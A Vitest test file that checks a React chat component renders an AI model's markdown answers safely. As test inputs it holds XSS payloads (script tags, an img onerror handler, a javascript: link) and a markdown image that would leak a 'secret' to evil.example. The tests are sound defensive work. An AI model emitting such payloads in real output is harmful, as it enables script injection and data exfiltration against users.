import { cleanup, render } from "@testing-library/react"
import { afterEach, expect, test } from "vitest"
import type { Source } from "@/lib/api/types"
import { Words } from "@/components/words"
import { ChatWords } from "./chat-words"
import { EvidenceOf } from "./evidence"
import { AnswerText } from "./markdown"

afterEach(cleanup)

const source: Source = {
  n: 1,
  kind: "web",
  title: "Guide",
  url: "https://guide.example/cold",
  quote: "Keep it cold.",
  score: 0.9,
}
function show(content: string, growing = false) {
  const { container } = render(
    <Words>
      <ChatWords>
        <EvidenceOf sources={[source]} question="How?" openNumber={null} onOpen={() => undefined} onPreview={() => undefined}>
          <AnswerText content={content} sentences={[]} known={[1]} growing={growing} />
        </EvidenceOf>
      </ChatWords>
    </Words>,
  )
  return container
}

test("raw HTML of a model is text at most, never elements", () => {
  const shown = show('<script>alert(1)</script><img src=x onerror=alert(1)> <iframe src="//x"></iframe>')
  expect(shown.querySelector("script, img, iframe")).toBeNull()
})

test("no image is loaded, from wherever it is said to come", () => {
  expect(show("![secret](https://evil.example/?q=secret)").querySelector("img")).toBeNull()
})

test("only an address that a source or the question names becomes a link", () => {
  const shown = show("[a](https://guide.example/cold) [b](https://evil.example/) [c](javascript:alert(1))")
  expect([...shown.querySelectorAll("a")].map((link) => link.getAttribute("href"))).toEqual([
    "https://guide.example/cold",
  ])
  expect(shown.textContent).toBe("a b c")
})

test("a mark is a button named after its source", () => {
  const mark = show("Keep it cold. [1]").querySelector("button")
  expect(mark?.getAttribute("aria-label")).toBe("Source 1: Guide")
})

test("while the answer grows, half a mark and half bold text do not flash", () => {
  const shown = show("Keep it **co", true)
  expect(shown.querySelector("strong")?.textContent).toBe("co")
  expect(show("Keep it cold. [1", true).textContent).toBe("Keep it cold.")
})

test("headings of an answer stand below its question", () => {
  expect(show("# One\n\n#### Two").querySelectorAll("h3")).toHaveLength(2)
})

test("one tilde is a letter, and two strike out", () => {
  expect(show("From ~5 to ~10 EUR, ~~not 20 EUR~~.").querySelectorAll("del")).toHaveLength(1)
  expect(show("From ~5 to ~10 EUR.").textContent).toBe("From ~5 to ~10 EUR.")
})
